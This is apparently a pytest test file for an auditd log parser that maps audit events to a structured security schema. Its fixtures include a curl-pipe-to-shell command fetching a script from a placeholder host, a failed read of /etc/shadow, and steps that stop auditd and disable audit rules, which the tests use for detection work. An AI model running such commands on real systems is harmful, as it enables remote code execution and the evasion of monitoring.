import json

import pytest
from parse_support import fixture_events, parse_one, record

from udfs.parse import ParseError, parse


@pytest.fixture(scope="module")
def events():
    return fixture_events("auditd")


def test_execve_with_hex_argument_and_enriched_names(events):
    e = events[0]
    assert (e["class_uid"], e["activity_id"], e["category_uid"], e["status_id"]) == (1007, 1, 1, 1)
    assert e["unmapped"]["process.cmd_line"] == "bash -c curl -s http://198.51.100.50/x.sh | sh"
    assert json.loads(e["unmapped"]["process.args"])[2] == "curl -s http://198.51.100.50/x.sh | sh"
    assert e["actor"]["user"]["uid"] == "1001" and e["actor"]["user"]["name"] == "alice"
    assert e["actor"]["session"]["uid"] == "7"
    assert e["resources"][0] == {"uid": "4300", "name": "/usr/bin/bash", "type": "Process", "namespace": None,
                                 "owner": None}
    assert e["unmapped"]["process.cwd"] == "/tmp" and e["unmapped"]["euid"] == "0"
    assert e["unmapped"]["key"] == "exec"
    assert e["metadata"]["uid"] == "web1:9001" and e["dst_endpoint"]["hostname"] == "web1"
    assert e["time"] == 1732795800123 and e["metadata"]["original_time"] == "1732795800.123"
    assert e["api"]["operation"] == "execve"


def test_execve_split_argument_and_syscall_number(events):
    e = events[1]
    assert e["unmapped"]["process.cmd_line"] == 'python3 -c print("hello world")'
    assert e["api"]["operation"] == "execve"  # from syscall=59 on x86_64
    assert "key" not in e["unmapped"]  # key=(null)
    assert e["actor"]["user"] == {"uid": "1002", "name": None, "type": None, "groups": None}


def test_file_delete_with_hex_name(events):
    e = events[2]
    assert (e["class_uid"], e["activity_id"]) == (1001, 4)
    assert e["resources"][0]["name"] == "/var/log/audit/audit.log.1 old"
    assert e["resources"][0]["uid"] == "393300" and e["resources"][0]["type"] == "File"
    assert e["api"]["operation"] == "unlinkat"


def test_failed_read_of_shadow(events):
    e = events[3]
    assert (e["activity_id"], e["status_id"], e["status_detail"]) == (2, 2, "exit=-13")
    assert e["resources"][0]["name"] == "/etc/shadow"


def test_chmod_is_set_security(events):
    assert events[4]["type_uid"] == 100107


def test_failed_login(events):
    e = events[5]
    assert (e["type_uid"], e["status_id"], e["status_detail"]) == (300201, 2, "res=failed")
    assert e["actor"]["user"]["name"] == "root" and e["actor"]["user"]["uid"] is None
    assert e["actor"]["session"] is None  # ses=4294967295 is unset
    assert e["src_endpoint"] == {"ip": "198.51.100.23", "port": None, "hostname": None}


def test_user_auth_with_hex_acct(events):
    e = events[6]
    assert (e["type_uid"], e["status_id"]) == (300201, 1)
    assert e["actor"]["user"]["name"] == "alice"


def test_add_user(events):
    e = events[7]
    assert e["type_uid"] == 300101
    assert e["resources"][0]["name"] == "carol" and e["actor"]["user"]["uid"] == "1001"


def test_user_cmd(events):
    e = events[8]
    assert e["type_uid"] == 300301
    assert e["unmapped"]["sudo.command"] == "systemctl stop auditd "
    assert e["unmapped"]["sudo.cwd"] == "/home/alice"


def test_config_changes_are_visible(events):
    removed, disabled = events[9], events[10]
    assert (removed["class_uid"], removed["activity_id"]) == (3004, 4)
    assert removed["resources"][0]["name"] == "exec" and removed["resources"][0]["type"] == "AuditRule"
    assert removed["status_id"] == 1 and removed["actor"]["user"]["uid"] == "1001"
    assert (disabled["class_uid"], disabled["activity_id"]) == (3004, 3)
    assert disabled["resources"][0]["name"] == "audit_enabled"
    assert disabled["unmapped"]["config.value"] == "0" and disabled["unmapped"]["config.old"] == "1"


def test_other_types_are_base_events(events):
    e = events[11]
    assert e["type_uid"] == 99 and e["unmapped"]["auditflow.parser"] == "auditd.generic"
    assert e["unmapped"]["auditd.types"] == "SERVICE_START"


def test_ingestion_fixture_groups_parse():
    from pathlib import Path

    text = (Path(__file__).resolve().parents[1] / "fixtures" / "raw" / "auditd" / "audit.log").read_text()
    groups: dict[str, list[str]] = {}
    for line in text.splitlines():
        groups.setdefault(line.split("msg=audit(", 1)[1].split(")", 1)[0], []).append(line)
    for i, lines in enumerate(groups.values()):
        parse_one("auditd", "\n".join(lines), offset=i, ts=1736668800000)


@pytest.mark.parametrize(
    ("value", "error_class"),
    [
        ("", "auditd.empty"),
        ("Nov 28 12:00:00 host sshd[1]: not audit", "auditd.unframed"),
        ("type=SYSCALL msg=audit(1732795800.123:1): a=1\ntype=PATH msg=audit(1732795800.123:2): b=2",
         "auditd.mixed_events"),
    ],
)
def test_rejects(value, error_class):
    with pytest.raises(ParseError) as err:
        parse(record("auditd", value))
    assert err.value.error_class == error_class
